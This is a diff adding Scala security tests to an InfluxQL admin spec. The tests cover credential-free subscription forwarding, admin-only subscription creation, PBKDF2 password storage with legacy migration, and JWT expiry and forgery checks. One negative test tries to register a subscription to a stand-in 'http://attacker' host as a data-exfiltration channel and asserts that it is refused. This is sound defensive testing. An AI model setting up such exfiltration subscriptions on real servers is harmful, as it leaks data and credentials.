@@ -462,6 +462,70 @@ class InfluxQLAdminSpec extends SparkTestBase {
     } finally { hp.stop(); hm.stop() }
   }
 
+  test("subscription fan-out is scoped to the write's db/rp and never forwards credentials") {
+    // a raw recording endpoint stands in for the registered destination —
+    // capture exactly what the primary forwards
+    val recorded = new java.util.concurrent.LinkedBlockingQueue[(String, String)]()
+    val recorder = com.sun.net.httpserver.HttpServer.create(
+      new java.net.InetSocketAddress(0), 0)
+    recorder.createContext("/write", (ex: com.sun.net.httpserver.HttpExchange) => {
+      val body = new String(ex.getRequestBody.readAllBytes(), "UTF-8")
+      recorded.put((Option(ex.getRequestURI.getRawQuery).getOrElse(""), body))
+      ex.sendResponseHeaders(204, -1); ex.close()
+    })
+    recorder.start()
+    val store = java.nio.file.Files.createTempDirectory("graft-sub-scope").toFile
+    val h = InfluxQLHttp.startStore(spark, store.toString, auth = Some("root" -> "root"))
+    try {
+      def write(db: String): Int = {
+        val wc = new java.net.URI(
+          s"http://127.0.0.1:${h.port}/write?db=$db&u=root&p=root&precision=s").toURL
+          .openConnection().asInstanceOf[java.net.HttpURLConnection]
+        wc.setRequestMethod("POST"); wc.setDoOutput(true)
+        wc.getOutputStream.write(s"$db,alias=a value=1.0 1704067200".getBytes("UTF-8"))
+        val c = wc.getResponseCode; wc.disconnect(); c
+      }
+      def rootQuery(q: String): (Int, String) = {
+        val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=root&p=root").toURL
+          .openConnection().asInstanceOf[java.net.HttpURLConnection]
+        conn.setRequestMethod("POST"); conn.setDoOutput(true)
+        conn.getOutputStream.write(s"q=${enc(q)}".getBytes("UTF-8"))
+        val code = conn.getResponseCode
+        val is = if (code >= 400) conn.getErrorStream else conn.getInputStream
+        val body = if (is == null) "" else new String(is.readAllBytes(), "UTF-8")
+        conn.disconnect(); (code, body)
+      }
+      assert(rootQuery(s"CREATE SUBSCRIPTION scoped ON dbA.autogen DESTINATIONS ALL " +
+        s"'http://127.0.0.1:${recorder.getAddress.getPort}'")._1 == 200)
+      // subscription admin is ADMIN-only under auth: a write-privileged
+      // user must not be able to register a destination (credential /
+      // data exfiltration channel)
+      assert(rootQuery("CREATE DATABASE dbA; CREATE USER w1 WITH PASSWORD 'pw'")._1 == 200)
+      assert(rootQuery("GRANT WRITE ON dbA TO w1")._1 == 200)
+      val sub = s"CREATE SUBSCRIPTION evil ON dbA.autogen DESTINATIONS ALL 'http://attacker'"
+      val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=w1&p=pw&db=dbA").toURL
+        .openConnection().asInstanceOf[java.net.HttpURLConnection]
+      conn.setRequestMethod("POST"); conn.setDoOutput(true)
+      conn.getOutputStream.write(s"q=${enc(sub)}".getBytes("UTF-8"))
+      assert(conn.getResponseCode == 403); conn.disconnect()
+
+      // a write to ANOTHER db is NOT forwarded…
+      assert(write("dbB") == 204)
+      // …a write to the subscribed db is, with credentials STRIPPED and
+      // scope/precision kept
+      assert(write("dbA") == 204)
+      val (fq, fbody) = recorded.poll(20, java.util.concurrent.TimeUnit.SECONDS)
+      assert(fbody.startsWith("dbA,alias=a"), fbody)
+      val fparams = fq.split('&').map(_.split("=", 2)).map(a => a(0) -> a.lift(1).getOrElse("")).toMap
+      assert(fparams.get("db").contains("dbA") && fparams.get("rp").contains("autogen") &&
+        fparams.get("precision").contains("s"), fq)
+      assert(!fparams.contains("u") && !fparams.contains("p"),
+        s"credentials must never be forwarded: $fq")
+      // the dbB write never arrives (nothing else queued)
+      assert(recorded.poll(1500, java.util.concurrent.TimeUnit.MILLISECONDS) == null)
+    } finally { h.stop(); recorder.stop(0) }
+  }
+
   test("user admin statements parse and render round-trip") {
     assert(InfluxQLParser.parse("CREATE USER u1 WITH PASSWORD 'pw'") ==
       CreateUser("u1", "pw", admin = false))
@@ -552,6 +616,80 @@ class InfluxQLAdminSpec extends SparkTestBase {
       // per-statement error for a duplicate create (batch shape intact)
       val (cd, bd) = rootQuery("CREATE USER writer WITH PASSWORD 'x'")
       assert(cd == 200 && bd.contains("already exists"), bd.take(300))
+
+      // at rest: salted PBKDF2, never plaintext, never bare sha256
+      val userFiles = new java.io.File(store, "_meta/users").listFiles()
+      assert(userFiles.nonEmpty)
+      userFiles.foreach { f =>
+        val content = new String(java.nio.file.Files.readAllBytes(f.toPath), "UTF-8")
+        assert(content.startsWith("pbkdf2:"), s"${f.getName}: ${content.take(40)}")
+        assert(!content.contains("wpw") && !content.contains("npw"), "plaintext at rest")
+      }
+    } finally h.stop()
+  }
+
+  test("legacy unsalted-sha256 user files still authenticate and migrate to salted PBKDF2") {
+    val store = java.nio.file.Files.createTempDirectory("graft-legacy-hash").toString
+    // a pre-r9 user file: "<sha256-hex(password)> <admin>"
+    val legacyHash = java.security.MessageDigest.getInstance("SHA-256")
+      .digest("oldpw".getBytes("UTF-8")).map("%02x".format(_)).mkString
+    val f = new java.io.File(store, "_meta/users/olduser")
+    f.getParentFile.mkdirs()
+    java.nio.file.Files.writeString(f.toPath, s"$legacyHash false")
+    assert(!StoreMeta.authenticate(store, "olduser", "wrongpw"))
+    assert(StoreMeta.authenticate(store, "olduser", "oldpw"))
+    // first successful login rewrote the file salted; the credential
+    // still verifies against the migrated hash
+    val migrated = new String(java.nio.file.Files.readAllBytes(f.toPath), "UTF-8")
+    assert(migrated.startsWith("pbkdf2:") && migrated.endsWith(" false"), migrated.take(60))
+    assert(StoreMeta.authenticate(store, "olduser", "oldpw"))
+    assert(!StoreMeta.authenticate(store, "olduser", "wrongpw"))
+  }
+
+  test("JWT shared-secret auth: valid bearer tokens authenticate, expired/forged 401") {
+    val store = java.nio.file.Files.createTempDirectory("graft-http-jwt").toFile
+    val secret = "sharedsecret123"
+    val h = InfluxQLHttp.startStore(spark, store.toString,
+      auth = Some("root" -> "root"), jwtSecret = Some(secret))
+    try {
+      def queryWithToken(token: String, q: String, db: String = ""): Int = {
+        val dbq = if (db.isEmpty) "" else s"&db=$db"
+        val conn = new java.net.URI(s"http://127.0.0.1:${h.port}/query?q=${enc(q)}$dbq").toURL
+          .openConnection().asInstanceOf[java.net.HttpURLConnection]
+        conn.setRequestProperty("Authorization", s"Bearer $token")
+        val c = conn.getResponseCode; conn.disconnect(); c
+      }
+      val exp = System.currentTimeMillis() / 1000L + 3600
+      // token naming the root identity → full admin
+      assert(queryWithToken(Jwt.sign("root", exp, secret), "SHOW DATABASES") == 200)
+      // expired / wrong-secret / unknown-user tokens all 401
+      assert(queryWithToken(Jwt.sign("root",
+        System.currentTimeMillis() / 1000L - 10, secret), "SHOW DATABASES") == 401)
+      assert(queryWithToken(Jwt.sign("root", exp, "wrongsecret"), "SHOW DATABASES") == 401)
+      assert(queryWithToken(Jwt.sign("ghost", exp, secret), "SHOW DATABASES") == 401)
+      // a catalog user's token carries THAT user's privileges (not admin)
+      val rc = new java.net.URI(s"http://127.0.0.1:${h.port}/query?u=root&p=root").toURL
+        .openConnection().asInstanceOf[java.net.HttpURLConnection]
+      rc.setRequestMethod("POST"); rc.setDoOutput(true)
+      rc.getOutputStream.write(
+        s"q=${enc("CREATE DATABASE db1; CREATE USER jr WITH PASSWORD 'x'; GRANT READ ON db1 TO jr")}"
+          .getBytes("UTF-8"))
+      assert(rc.getResponseCode == 200); rc.disconnect()
+      val jrTok = Jwt.sign("jr", exp, secret)
+      assert(queryWithToken(jrTok, "SHOW MEASUREMENTS", db = "db1") == 200)
+      assert(queryWithToken(jrTok, "SHOW USERS", db = "db1") == 403) // not admin
+      // verify() unit behavior: exp claim is REQUIRED
+      val noExp = {
+        val b64 = (s: String) => java.util.Base64.getUrlEncoder.withoutPadding
+          .encodeToString(s.getBytes("UTF-8"))
+        val si = s"${b64("""{"alg":"HS256","typ":"JWT"}""")}.${b64("""{"username":"root"}""")}"
+        val mac = javax.crypto.Mac.getInstance("HmacSHA256")
+        mac.init(new javax.crypto.spec.SecretKeySpec(secret.getBytes("UTF-8"), "HmacSHA256"))
+        s"$si.${java.util.Base64.getUrlEncoder.withoutPadding.encodeToString(mac.doFinal(si.getBytes("UTF-8")))}"
+      }
+      assert(queryWithToken(noExp, "SHOW DATABASES") == 401)
+      assert(Jwt.verify(Jwt.sign("u", 2000L, "s"), "s", nowEpochSec = 1000L).contains("u"))
+      assert(Jwt.verify(Jwt.sign("u", 2000L, "s"), "s", nowEpochSec = 3000L).isEmpty)
     } finally h.stop()
   }
 }
